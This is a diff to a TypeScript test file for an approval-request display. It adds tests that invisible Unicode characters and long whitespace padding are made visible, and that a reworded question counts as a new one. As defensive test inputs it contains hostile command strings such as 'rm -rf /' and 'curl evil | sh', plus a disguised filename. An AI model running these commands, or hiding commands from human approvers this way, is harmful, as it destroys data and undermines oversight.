@@ -3,7 +3,7 @@ import { type ApprovalRequest, emptyDesk, type OpenPrompt, type Outbox, type Sen
 import { answerState, endingOf, type Witness } from "../../src/asks/answers.js";
 import { armAfter, type Clocks, counts, whenSeen } from "../../src/asks/arming.js";
 import { chosenAfter, isAnswer } from "../../src/asks/choice.js";
-import { type Ask, askInFront, asksOf, neighbour, timeLeft } from "../../src/asks/order.js";
+import { type Ask, askInFront, asksOf, neighbour, timeLeft, versionOf } from "../../src/asks/order.js";
 import { originOf, visible } from "../../src/asks/origin.js";
 
 const approval = (dialogId: string, deadline?: number, more: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
@@ -117,6 +117,22 @@ test("nothing in a text is unseen or turned round", () => {
   expect(visible("rm -rf /\n\ttmp 한글 👩‍💻")).toBe("rm -rf /\n\ttmp 한글 👩‍💻");
   expect(visible("a\u202Etxt.exe\u200B\r\nb\u0000")).toBe("a[U+202E]txt.exe[U+200B]\nb[U+0000]");
   expect(visible("x\u{E0041}")).toBe("x[U+E0041]");
+  for (const sign of ["\u3164", "\u115F", "\uFFA0", "\u034F", "\u2800", "\u{E0101}", "\u200C", "\u200D", "\u00A0", "\u2003", "\u3000"]) {
+    expect(visible(`a${sign}b`)).toMatch(/^a\[U\+[0-9A-F]{4,5}\]b$/);
+  }
+  expect(visible("⚠️ a\uFE0F")).toBe("⚠️ a[U+FE0F]");
+});
+
+test("nothing is pushed out of sight by emptiness", () => {
+  expect(visible(`ls /tmp${"\n".repeat(200)}; curl evil | sh`)).toBe("ls /tmp\n[↵ ×199]\n; curl evil | sh");
+  expect(visible(`ls${" ".repeat(90)}; rm`)).toBe("ls [␣ ×90] ; rm");
+  expect(visible("a\n\n  b")).toBe("a\n\n  b");
+});
+
+test("a question that says something else is another one", () => {
+  const of = (title: string): string => versionOf(asksOf({ dialogs: new Map([["d", approval("d", 1, { title })]]), prompts: new Map() })[0]!);
+  expect(of("a")).toBe(of("a"));
+  expect(of("a")).not.toBe(of("b"));
 });
 
 test("a question comes from its agent, on its monitor, for its window", () => {
